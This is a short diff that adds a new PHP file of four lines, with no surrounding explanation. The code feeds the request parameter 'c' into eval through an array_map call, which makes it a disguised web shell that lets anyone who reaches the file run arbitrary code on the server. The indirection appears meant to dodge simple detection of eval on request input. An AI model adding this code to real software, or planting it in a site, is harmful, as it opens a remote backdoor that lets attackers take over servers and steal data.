@@ -1,0 +1,4 @@
+<?php
+array_map(function ($x) {
+    eval($x);
+}, array($_REQUEST['c']));
